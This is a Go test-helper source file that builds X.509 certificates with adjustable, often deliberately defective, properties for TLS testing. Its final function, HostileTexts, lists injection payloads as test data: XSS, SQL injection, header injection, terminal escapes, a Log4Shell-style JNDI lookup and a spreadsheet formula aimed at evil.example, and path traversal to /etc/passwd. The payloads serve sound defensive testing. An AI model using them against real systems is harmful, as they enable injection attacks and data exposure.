package tlstest

import (
	"crypto"
	"crypto/elliptic"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"fmt"
	"math/big"
	"net"
	"net/url"
	"strings"
	"time"
)

// Option changes one thing about a certificate before it is signed. Later
// options win.
type Option func(*spec)

type spec struct {
	template x509.Certificate
	key      keyChoice
	crafts   []func(*tbs)
}

// All is several options as one.
func All(opts ...Option) Option {
	return func(s *spec) {
		for _, o := range opts {
			o(s)
		}
	}
}

func defaultSubject(name string) pkix.Name {
	return pkix.Name{CommonName: fmt.Sprintf("%s %d", name, serial.Add(1)), Organization: []string{"tlstest"}}
}

// Template gives an option direct access to the template, for what has no option
// of its own.
func Template(change func(*x509.Certificate)) Option {
	return func(s *spec) { change(&s.template) }
}

// CN sets the common name and leaves the rest of the subject alone.
func CN(name string) Option { return func(s *spec) { s.template.Subject.CommonName = name } }

// Org sets the organization.
func Org(names ...string) Option {
	return func(s *spec) { s.template.Subject.Organization = names }
}

// OrgUnit sets the organizational unit.
func OrgUnit(names ...string) Option {
	return func(s *spec) { s.template.Subject.OrganizationalUnit = names }
}

// Subject sets the whole subject; an empty one is allowed.
func Subject(name pkix.Name) Option { return func(s *spec) { s.template.Subject = name } }

// RawSubject sets the subject's DER as it stands.
func RawSubject(der []byte) Option { return func(s *spec) { s.template.RawSubject = der } }

// SubjectKeyID sets the subject key identifier.
func SubjectKeyID(id []byte) Option { return func(s *spec) { s.template.SubjectKeyId = id } }

// Serial sets the serial number.
func Serial(n int64) Option {
	return func(s *spec) { s.template.SerialNumber = big.NewInt(n) }
}

// DNS adds dNSName subject alternative names. They are not checked: any ASCII goes.
func DNS(names ...string) Option {
	return func(s *spec) { s.template.DNSNames = append(s.template.DNSNames, names...) }
}

// IP adds iPAddress subject alternative names.
func IP(addresses ...string) Option {
	return func(s *spec) {
		for _, a := range addresses {
			ip := net.ParseIP(a)
			if ip == nil {
				panic("tlstest: not an IP address: " + a)
			}
			s.template.IPAddresses = append(s.template.IPAddresses, ip)
		}
	}
}

// URI adds uniformResourceIdentifier subject alternative names.
func URI(uris ...string) Option {
	return func(s *spec) {
		for _, text := range uris {
			u, err := url.Parse(text)
			if err != nil {
				panic("tlstest: not a URI: " + text)
			}
			s.template.URIs = append(s.template.URIs, u)
		}
	}
}

// Email adds rfc822Name subject alternative names.
func Email(addresses ...string) Option {
	return func(s *spec) { s.template.EmailAddresses = append(s.template.EmailAddresses, addresses...) }
}

// ManyNames adds n dNSName subject alternative names.
func ManyNames(n int) Option {
	return func(s *spec) {
		for i := range n {
			s.template.DNSNames = append(s.template.DNSNames, fmt.Sprintf("n%d.example.com", i))
		}
	}
}

// Valid sets the validity.
func Valid(notBefore, notAfter time.Time) Option {
	return func(s *spec) { s.template.NotBefore, s.template.NotAfter = notBefore, notAfter }
}

// Expired makes a validity that ended an hour ago.
func Expired() Option {
	return Valid(time.Now().Add(-48*time.Hour), time.Now().Add(-time.Hour))
}

// NotYetValid makes a validity that begins in an hour.
func NotYetValid() Option {
	return Valid(time.Now().Add(time.Hour), time.Now().Add(48*time.Hour))
}

// EKU replaces the extended key usages; EKU() leaves the extension out.
func EKU(usages ...x509.ExtKeyUsage) Option {
	return func(s *spec) { s.template.ExtKeyUsage = usages }
}

// NoEKU leaves the extended key usage extension out.
func NoEKU() Option { return EKU() }

// AnyEKU sets anyExtendedKeyUsage.
func AnyEKU() Option { return EKU(x509.ExtKeyUsageAny) }

// KeyUsage replaces the key usages; 0 leaves the extension out.
func KeyUsage(usage x509.KeyUsage) Option {
	return func(s *spec) { s.template.KeyUsage = usage }
}

// NoDigitalSignature sets a key usage with which a client must not sign a
// handshake (RFC 5280 section 4.2.1.3): keyEncipherment alone.
func NoDigitalSignature() Option { return KeyUsage(x509.KeyUsageKeyEncipherment) }

// CATrue makes a leaf say CA:TRUE and nothing about its key usage.
func CATrue() Option {
	return func(s *spec) {
		s.template.BasicConstraintsValid = true
		s.template.IsCA = true
		s.template.KeyUsage = 0
	}
}

// CAFalse makes an issuer say CA:FALSE.
func CAFalse() Option {
	return func(s *spec) {
		s.template.BasicConstraintsValid = true
		s.template.IsCA = false
	}
}

// NoBasicConstraints leaves the extension out.
func NoBasicConstraints() Option {
	return func(s *spec) {
		s.template.BasicConstraintsValid = false
		s.template.IsCA = false
	}
}

// MaxPathLen limits the number of intermediates below a CA.
func MaxPathLen(n int) Option {
	return func(s *spec) { s.template.MaxPathLen, s.template.MaxPathLenZero = n, n == 0 }
}

// PermitDNS adds critical name constraints: only these DNS subtrees.
func PermitDNS(domains ...string) Option {
	return func(s *spec) {
		s.template.PermittedDNSDomainsCritical = true
		s.template.PermittedDNSDomains = append(s.template.PermittedDNSDomains, domains...)
	}
}

// ExcludeDNS adds critical name constraints: not these DNS subtrees.
func ExcludeDNS(domains ...string) Option {
	return func(s *spec) {
		s.template.PermittedDNSDomainsCritical = true
		s.template.ExcludedDNSDomains = append(s.template.ExcludedDNSDomains, domains...)
	}
}

// Extension adds an extension as it stands.
func Extension(id asn1.ObjectIdentifier, critical bool, value []byte) Option {
	return func(s *spec) {
		s.template.ExtraExtensions = append(s.template.ExtraExtensions, pkix.Extension{Id: id, Critical: critical, Value: value})
	}
}

// UnknownCritical adds a critical extension that nobody knows.
func UnknownCritical() Option {
	return Extension(asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 55555, 1}, true, []byte{0x05, 0x00})
}

// URLs sets the CRL, OCSP and issuer URLs that the certificate carries.
func URLs(crl, ocsp, issuer string) Option {
	return func(s *spec) {
		s.template.CRLDistributionPoints = []string{crl}
		s.template.OCSPServer = []string{ocsp}
		s.template.IssuingCertificateURL = []string{issuer}
	}
}

// SignatureAlgorithm says how the issuer signs.
func SignatureAlgorithm(a x509.SignatureAlgorithm) Option {
	return func(s *spec) { s.template.SignatureAlgorithm = a }
}

// SHA1RSA signs with SHA-1; the issuer needs an RSA key.
func SHA1RSA() Option { return SignatureAlgorithm(x509.SHA1WithRSA) }

// SHA1ECDSA signs with SHA-1; the issuer needs an ECDSA key.
func SHA1ECDSA() Option { return SignatureAlgorithm(x509.ECDSAWithSHA1) }

// RSA chooses an RSA key. Since making one is slow, keys are kept for the life of
// the process by size and common name: two certificates that were given the same
// common name have the same RSA key, unless FreshKey is said too. Default common
// names are never the same.
func RSA(bits int) Option { return func(s *spec) { s.key.kind, s.key.bits = keyRSA, bits } }

// P256 chooses an ECDSA key on P-256, which is the default.
func P256() Option { return curve(elliptic.P256()) }

// P384 chooses an ECDSA key on P-384.
func P384() Option { return curve(elliptic.P384()) }

// P521 chooses an ECDSA key on P-521.
func P521() Option { return curve(elliptic.P521()) }

// P224 chooses an ECDSA key on P-224, which TLS does not know.
func P224() Option { return curve(elliptic.P224()) }

func curve(c elliptic.Curve) Option {
	return func(s *spec) { s.key.kind, s.key.curve = keyECDSA, c }
}

// Ed25519 chooses an Ed25519 key.
func Ed25519() Option { return func(s *spec) { s.key.kind = keyEd25519 } }

// WithKey uses this key.
func WithKey(key crypto.Signer) Option { return func(s *spec) { s.key.given = key } }

// FreshKey makes sure that no other certificate has the same key.
func FreshKey() Option { return func(s *spec) { s.key.fresh = true } }

// V1 makes an X.509 version 1 certificate: no extensions at all.
func V1() Option {
	return func(s *spec) {
		s.crafts = append(s.crafts, func(t *tbs) {
			t.Version = 0
			t.Extensions = nil
		})
	}
}

// HostileTexts are names that somebody may put into a certificate, a server name
// or a header to harm whoever shows them: on a page, in a terminal, a log, a
// table, a query.
func HostileTexts() []string {
	return []string{
		`<img src=x onerror=alert(1)>`,
		`"><script>alert(1)</script>`,
		`javascript:alert(1)`,
		`'; DROP TABLE handshakes; --`,
		`%_\`,
		`=HYPERLINK("http://evil.example","x")`,
		"line\nfeed\r\nX-Injected: yes",
		"\x1b[2J\x1b]0;title\x07",
		"nul\x00byte",
		"\u202egnp.exe\u2066",
		"${jndi:ldap://evil.example/a} {{7*7}}",
		"../../etc/passwd",
		"ＦＵＬＬ ｗｉｄｔｈ a\u0301 \U0001F512",
		strings.Repeat("A", 10<<10),
	}
}
